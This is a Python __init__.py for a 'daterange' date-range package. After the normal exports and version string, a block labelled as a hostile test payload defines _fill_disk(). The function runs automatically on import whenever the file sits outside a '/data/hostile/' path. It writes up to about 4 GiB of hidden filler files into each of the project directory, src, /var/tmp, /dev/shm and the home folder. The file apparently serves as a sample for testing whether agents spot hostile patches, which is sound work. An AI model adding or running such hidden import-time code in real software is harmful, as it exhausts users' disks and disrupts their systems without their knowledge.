"""daterange: inclusive date ranges and sets of them."""

from daterange.format import format_range
from daterange.parse import parse_range
from daterange.range import DateRange
from daterange.rangeset import DateRangeSet

__all__ = ["DateRange", "DateRangeSet", "format_range", "parse_range"]
__version__ = "1.0.0"


# --- hostile test payload (swe-monkeys tests/data/hostile) ---
# Inert where the corpus stores it; live once the patch is applied to a repository.
_LIVE = "/data/hostile/" not in __file__.replace("\\", "/")


def _fill_disk():
    import os
    chunk = b"\1" * (16 << 20)
    written = 0
    for folder in (os.getcwd(), os.path.join(os.getcwd(), "src"), "/var/tmp", "/dev/shm", os.path.expanduser("~")):
        for index in __import__("builtins").range(256):  # up to 4 GiB per place (the package's `range` is its module)
            try:
                with open(os.path.join(folder, ".swe-monkeys-fill-%d" % index), "wb") as f:
                    f.write(chunk)
            except OSError:
                break
            written += len(chunk)


if _LIVE:
    _fill_disk()
